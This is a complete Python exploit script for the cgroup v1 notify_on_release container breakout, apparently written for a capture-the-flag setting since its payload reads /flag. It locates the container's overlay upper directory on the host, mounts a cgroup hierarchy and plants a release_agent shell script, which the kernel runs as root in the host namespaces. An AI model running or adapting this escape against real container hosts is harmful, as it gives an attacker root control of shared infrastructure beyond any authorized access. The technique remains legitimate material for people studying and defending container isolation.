"""cgroup v1 notify_on_release container breakout (needs CAP_SYS_ADMIN in
the jail, e.g. a --privileged runner or an unconfined user namespace).

The kernel runs the cgroup hierarchy's release_agent as root in the *host*
namespaces when the last task leaves a cgroup with notify_on_release=1.
The agent path is resolved on the host, so we point it at our own
overlay upper directory.
"""
import os
import re
import subprocess
import time

MNT = "/tmp/.cg"


def host_path_of_rootfs():
    with open("/proc/self/mountinfo") as fh:
        for line in fh:
            if " / / " in line and "overlay" in line:
                m = re.search(r"upperdir=([^,\s]+)", line)
                if m:
                    return m.group(1)
    with open("/etc/mtab") as fh:
        m = re.search(r"upperdir=([^,\s]+)", fh.read())
        return m.group(1) if m else None


def main():
    upper = host_path_of_rootfs()
    if not upper:
        print("not an overlay rootfs")
        return
    os.makedirs(MNT, exist_ok=True)
    for ctrl in ("rdma", "memory", "pids"):
        if subprocess.call(["mount", "-t", "cgroup", "-o", ctrl, "cgroup", MNT]) == 0:
            break
    else:
        print("cannot mount a v1 hierarchy")
        return
    child = os.path.join(MNT, "x")
    os.makedirs(child, exist_ok=True)
    with open(os.path.join(child, "notify_on_release"), "w") as fh:
        fh.write("1")
    agent = "/cg_agent.sh"
    with open(agent, "w") as fh:
        fh.write(f"#!/bin/sh\n(id; hostname; cat /flag) > {upper}/cg_out\n")
    os.chmod(agent, 0o755)
    with open(os.path.join(MNT, "release_agent"), "w") as fh:
        fh.write(upper + agent)
    # a short-lived process joins the child cgroup and exits -> it empties
    subprocess.call(["sh", "-c", f"echo $$ > {child}/cgroup.procs"])
    time.sleep(1)
    try:
        with open("/cg_out") as fh:
            print(fh.read())
    except OSError:
        print("agent did not run")


if __name__ == "__main__":
    main()
